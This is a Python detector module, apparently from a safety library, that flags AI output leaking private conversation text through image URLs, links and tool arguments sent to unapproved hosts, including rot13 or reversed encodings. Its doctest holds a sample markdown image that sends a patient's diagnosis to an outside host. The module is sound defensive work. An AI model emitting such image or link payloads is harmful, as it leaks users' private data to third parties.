"""What is private, carried away in an address: by an image that loads, a link, a tool's argument.

An address is suspicious where its host is not allowed and no principal named it, and where it says
something that stands in the conversation: private words in its query, fragment, user, subdomains or
path, as they are or encoded. An address that stands whole in what somebody else wrote tells nobody
anything new, and is left alone.
"""

from __future__ import annotations

from collections.abc import Iterable, Iterator, Mapping
from functools import cached_property
from typing import Final
from urllib.parse import unquote

import re2

from adhere.detect.finding import Finding, ordered
from adhere.detect.letters import letters, rot13
from adhere.detect.privileged import every_gram
from adhere.detect.urls import Url, host_of, unfinished_url, urls
from adhere.detect.view import Hold, View

QUERY_RUN: Final = 12
"""Letters in a row that a query, a fragment, a user or a subdomain has in common with what is
private."""
PATH_RUN: Final = 28
"""The same for a path: titles of pages are made of the words that people ask with."""
_TOKEN: Final = re2.compile(r"[^\s<>\"'`(){}\[\],;|&=?#/\\]{5,128}")
ARGUMENT_RUN: Final = 40
"""The same for a tool's argument: names of files and projects are shorter."""
MAX_DEPTH: Final = 64
SHORTEST_TOKEN: Final = 6
_TELLING: Final = re2.compile(r"[0-9].*[0-9].*[0-9]|[A-Za-z0-9]@[A-Za-z0-9]")
_SUFFIX: Final = re2.compile(r"\.[A-Za-z0-9]{1,5}\b")
"""What a name of a file ends with."""
_LAST_TOKEN: Final = re2.compile(_TOKEN.pattern.replace("{5,128}", "*") + r"\z")
_EMAIL: Final = re2.compile(r"[A-Za-z0-9._%+-]{1,64}@[A-Za-z0-9.-]{1,190}\.[A-Za-z]{2,24}")


class PrivateContent:
    """What addresses must not carry, prepared when it is first needed.

    Args:
        private: Texts that are private to the conversation: privileged text, what tools returned,
            what the user wrote.
        seen: Texts in which an address may stand that is repeated as it is. Those of ``private``
            that somebody outside wrote belong here too.
    """

    def __init__(self, private: Iterable[str], seen: Iterable[str] = ()) -> None:
        self._private = tuple(private)
        self._seen = tuple(seen)

    @cached_property
    def _letters(self) -> bytes:
        return b"\n".join(letters(text) for text in self._private)

    @cached_property
    def _grams(self) -> frozenset[int]:
        return frozenset(every_gram(self._letters))

    @cached_property
    def _tokens(self) -> frozenset[bytes]:
        return frozenset(one for text in self._private for one in _tokens(text))

    def stands(self, address: str) -> bool:
        """Whether somebody else wrote this, or the beginning of it."""
        return any(address in text for text in self._seen)

    def run(self, said: bytes, least: int) -> int:
        """Return the length of a run of letters that is private, or 0."""
        if len(said) < least:
            return 0
        for at, number in enumerate(every_gram(said[: len(said) - least + 8])):
            if number in self._grams and said[at : at + least] in self._letters:
                size = least
                while at + size < len(said) and said[at : at + size + 1] in self._letters:
                    size += 1
                return size
        return 0

    def known(self, said: bytes) -> int:
        """Return the length of letters that are, all of them, a distinctive token, or 0."""
        return len(said) if said in self._tokens else 0

    def token(self, text: str) -> int:
        """Return the length of a distinctive token (a number, an address) that is private, or 0."""
        told = (*_tokens(text), *_tokens(_SUFFIX.sub(" ", text)))
        return max((len(one) for one in told if one in self._tokens), default=0)


class Exfiltration:
    """Finds private content in addresses that lead to hosts nobody named.

    Args:
        content: What is private.
        allowed: Hosts that may be told anything: ``example.org``, or ``*.example.org`` for all
            below it.
        principals: Texts of principals; a host they name is theirs to use.

    >>> content = PrivateContent(["The patient Maria Holm has diabetes."])
    >>> guard = Exfiltration(content, allowed=["*.example.org"])
    >>> [found] = guard.find(View("Done ![ ](https://x.example.net/p?d=maria+holm+has+diabetes)"))
    >>> found.kind, found.rule, found.size
    ('image', 'example.net', 20)
    """

    name = "exfiltration"
    window = 2048

    def __init__(
        self,
        content: PrivateContent,
        *,
        allowed: Iterable[str] = (),
        principals: Iterable[str] = (),
    ) -> None:
        self._content = content
        self._exact = frozenset(one.lower() for one in allowed if not one.startswith("*."))
        self._below = tuple(one[1:].lower() for one in allowed if one.startswith("*."))
        self._principals = tuple(principals)

    @cached_property
    def _named(self) -> frozenset[str]:
        hosts = {url.host for text in self._principals for url in urls(text)}
        for text in self._principals:
            hosts |= {host_of(match[0]) for match in _EMAIL.finditer(text)}
        return frozenset(host for host in hosts if host)

    def may_reach(self, host: str) -> bool:
        """Whether a host is allowed, or a principal named it or one above it."""
        if self._allowed(host):
            return True
        return any(host == one or host.endswith(f".{one.removeprefix('www.')}")
                   or one == f"www.{host}" for one in self._named)  # fmt: skip

    def find(self, view: View) -> tuple[Finding, ...]:
        """Return each address that carries something private to a host nobody named."""
        found = list(self._in(view, ()))
        if view.plain is not None:
            inner, derived = view.plain
            for one in self._in(inner, ("escapes",)):
                if derived.differs(one.start, one.held):
                    start, end = derived.span(one.start, one.end)
                    held = derived.span(one.held, one.held + 1)[0]
                    found.append(Finding(self.name, one.rule, one.kind, start, end, held,
                                         one.through, one.size))  # fmt: skip
        return ordered(found)

    def hold(self, view: View) -> Hold:
        """Return what may be the beginning of such an address."""
        return view.hold(self._begun)

    def in_arguments(self, arguments: Mapping[str, object]) -> tuple[tuple[str, Finding], ...]:
        """Find what a tool's call would carry away, each with the place of its argument.

        Beside addresses in the arguments that carry something themselves, this is private content
        in any argument of a call that names a recipient, by e-mail or by URL, whom no principal
        named. What is found there is of the kind ``argument``.
        """
        told = tuple(_strings(arguments, "", 0))
        found = [(place, one) for place, text in told for one in self.find(View(text))]
        for stranger in (self._strange_host, self._strange_address):
            owners = [stranger(text) for _, text in told]
            if not any(owners):
                continue
            owner = next(one for one in owners if one)
            for (place, text), itself in zip(told, owners, strict=True):
                if not itself and (size := self._says(text)):
                    held = Finding(self.name, owner, "argument", 0, len(text), 0, (), size)
                    found.append((place, held))
            break  # where a host is told something, addresses of persons are what is told
        return tuple(found)

    def _strange_host(self, text: str) -> str:
        """Return the owner of a URL in a text whose host nobody named; empty for none."""
        for url in urls(text):
            if url.host and not self.may_reach(url.host):
                return _owner(url.host)
        return ""

    def _strange_address(self, text: str) -> str:
        """Return the owner of an e-mail address in a text that nobody named; empty for none."""
        for match in _EMAIL.finditer(text):
            host = host_of(match[0])
            if match[0].casefold() not in self._addresses and not self._allowed(host):
                return _owner(host)
        return ""

    def _says(self, text: str) -> int:
        for reading in View(text).readings:
            for said, _ in _turned(reading.letters):
                if size := self._content.run(said, ARGUMENT_RUN):
                    return size
        return self._content.token(text)

    @cached_property
    def _addresses(self) -> frozenset[str]:
        return frozenset(
            match[0].casefold() for text in self._principals for match in _EMAIL.finditer(text)
        )

    def _allowed(self, host: str) -> bool:
        return host in self._exact or host.endswith(self._below or ("\0",))

    def _begun(self, view: View) -> Hold:
        keep, url = unfinished_url(view.text)
        size = len(view.text)
        if url is None or (url.host and self.may_reach(url.host)):
            return Hold(min(keep, size), size)
        return Hold(keep, url.authority)

    def _in(self, view: View, through: tuple[str, ...]) -> Iterator[Finding]:
        for url in urls(view.text, final=view.final):
            if not url.host or self.may_reach(url.host):
                continue
            if self._content.stands(view.text[url.start : url.end]):
                continue
            size, how = self._carried(url)
            if size:
                held = min(url.authority, url.end - 1)
                yield Finding(self.name, _owner(url.host), url.kind, url.start, url.end, held,
                              (*through, *how), size)  # fmt: skip

    def _carried(self, url: Url) -> tuple[int, tuple[str, ...]]:
        """Return how much of an address is private, and under which encodings."""
        for text, least in ((url.told, QUERY_RUN), (url.path, PATH_RUN)):
            for reading in View(text.replace("+", " ")).readings:
                for said, how in _turned(reading.letters):
                    size = self._content.run(said, least if reading.view else QUERY_RUN)
                    if not size and reading.view is None:
                        size = self._content.known(said)
                    if size:
                        return size, (*reading.through, *how)
        told = f"{url.told} {url.path}"
        if not url.complete:
            told = _LAST_TOKEN.sub("", told)
        return self._content.token(told), ()


def _strings(value: object, place: str, depth: int) -> Iterator[tuple[str, str]]:
    """Yield each text in arguments, names of members too, with its place."""
    if isinstance(value, str):
        yield place, value
    elif isinstance(value, (int, float)) and not isinstance(value, bool):
        yield place, str(value)
    elif depth == MAX_DEPTH:
        return
    elif isinstance(value, Mapping):
        for name, member in value.items():
            yield f"{place}.{name}".lstrip("."), str(name)
            yield from _strings(member, f"{place}.{name}".lstrip("."), depth + 1)
    elif isinstance(value, (list, tuple)):
        for number, member in enumerate(value):
            yield from _strings(member, f"{place}[{number}]", depth + 1)


def _owner(host: str) -> str:
    """Return what of a host may be told: the labels before the last two may be the message."""
    return ".".join(host.split(".")[-2:])


def _turned(said: bytes) -> Iterator[tuple[bytes, tuple[str, ...]]]:
    yield said, ()
    yield rot13(said), ("rot13",)
    yield said[::-1], ("reversed",)


def _tokens(text: str) -> Iterator[bytes]:
    """Yield the letters of what identifies somebody or something: numbers, addresses, codes."""
    for match in _TOKEN.finditer(unquote(text)):
        if _TELLING.search(match[0]) and len(said := letters(match[0])) >= SHORTEST_TOKEN:
            yield said
